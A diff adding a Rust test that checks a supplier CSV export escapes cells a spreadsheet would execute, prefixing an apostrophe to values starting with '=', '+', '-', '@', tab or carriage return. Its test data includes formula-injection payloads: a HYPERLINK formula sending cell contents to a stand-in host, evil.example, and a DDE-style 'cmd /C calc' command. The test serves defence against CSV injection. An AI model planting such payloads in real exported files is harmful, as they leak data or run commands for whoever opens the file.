@@ -128,3 +128,76 @@ fn a_killed_dry_runs_private_copy_is_removed_by_the_next_dry_run() {
     assert_eq!(next.code, 0, "{}", next.stderr);
     assert_eq!(dry_run_dirs(&tmp), Vec::<PathBuf>::new());
 }
+
+/// What a spreadsheet must not run, as OWASP lists it: `= + - @`, tab, carriage return.
+fn neutralised(value: &str) -> String {
+    if value.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{value}")
+    } else {
+        value.to_owned()
+    }
+}
+
+#[test]
+fn csv_export_neutralises_cells_a_spreadsheet_would_run() {
+    let mock = Mock::start(MOCK, 20);
+    let formulas = [
+        "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
+        "+SUM(1+1)*cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+    ];
+    for (i, formula) in formulas.iter().enumerate() {
+        mock.patch(&format!("ACME-{:06}", i + 1), json!({ "name": formula }));
+    }
+    mock.patch(
+        "ACME-000005",
+        json!({"name": "Tab Ltd", "address": {"street": "\t=1+1", "city": "\r=2+2", "country": "NL"}}),
+    );
+    let work = Workdir::new();
+    let settings = work.write_settings("settings.json", &acme_settings(&mock.api_url(), "acme_eu"));
+    let run = run_acme(&mock, &settings, &work.db(), &[]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    let db = work.db();
+    let db = db.to_str().unwrap();
+
+    // The store and JSON lines keep the source's text exactly.
+    let (code, jsonl, _) = host_output(&["suppliers", "export", "--db", db]);
+    assert_eq!(code, 0);
+    let exact: Vec<serde_json::Value> = jsonl.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
+    let names: Vec<&str> = exact.iter().map(|s| s["supplier_name"].as_str().unwrap()).collect();
+    for formula in formulas {
+        assert!(names.contains(&formula), "{formula} is stored as it came: {names:?}");
+    }
+
+    let (code, text, err) = host_output(&["suppliers", "export", "--db", db, "--format", "csv"]);
+    assert_eq!(code, 0, "{err}");
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let header = reader.headers().unwrap().clone();
+    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let (number, name, street, city) = (
+        column("supplier_number"),
+        column("supplier_name"),
+        column("address_street"),
+        column("address_city"),
+    );
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), exact.len());
+    let mut quoted = 0;
+    for (row, supplier) in rows.iter().zip(&exact) {
+        assert_eq!(&row[number], supplier["supplier_number"].as_str().unwrap());
+        assert_eq!(row[name], neutralised(supplier["supplier_name"].as_str().unwrap()));
+        let address = &supplier["locations"][0]["addresses"][0];
+        for (cell, field) in [(street, "street"), (city, "city")] {
+            assert_eq!(row[cell], neutralised(address[field].as_str().unwrap_or("")), "{field}");
+        }
+        for cell in row.iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?} would run: {text}"
+            );
+            quoted += usize::from(cell.starts_with('\''));
+        }
+    }
+    assert_eq!(quoted, formulas.len() + 2, "{text}");
+}
